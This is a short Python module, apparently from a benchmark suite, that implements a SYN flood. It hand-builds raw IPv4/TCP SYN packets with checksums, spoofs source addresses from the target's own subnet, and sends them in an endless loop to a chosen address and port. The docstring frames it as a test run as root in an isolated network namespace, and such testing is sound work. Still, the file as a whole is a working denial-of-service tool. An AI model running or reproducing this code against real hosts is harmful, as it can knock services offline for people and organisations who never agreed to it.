"""Send first packets of TCP connections without end, from addresses of the receiver's network that nobody has.

    python -m benchmarks.attacks.syn_flood ADDRESS PORT

Run by root in a network namespace of its own. It ends with who began it, however that ends.
"""

from __future__ import annotations

import itertools
import os
import random
import socket
import struct
import sys

__all__ = ["main", "syn"]


def checksum(data: bytes) -> int:
    """RFC 1071. ``data``: an even number of bytes."""
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source: bytes, source_port: int, target: bytes, port: int, sequence: int) -> bytes:
    """An IPv4 packet (RFC 791, 3.1; RFC 9293, 3.1). The system fills in its length and checksum."""
    tcp = struct.pack(">HHLLBBHHH", source_port, port, sequence, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + target + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target) + tcp


def main() -> None:
    parent = os.getppid()
    target, port = socket.inet_aton(sys.argv[1]), int(sys.argv[2])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        for number in itertools.count():
            if number % 1000 == 0 and os.getppid() != parent:
                return
            source = target[:3] + bytes([3 + number % 250])
            packet = syn(source, 1024 + number // 250 % 64000, target, port, random.getrandbits(32))
            sock.sendto(packet, (sys.argv[1], 0))


if __name__ == "__main__":
    main()
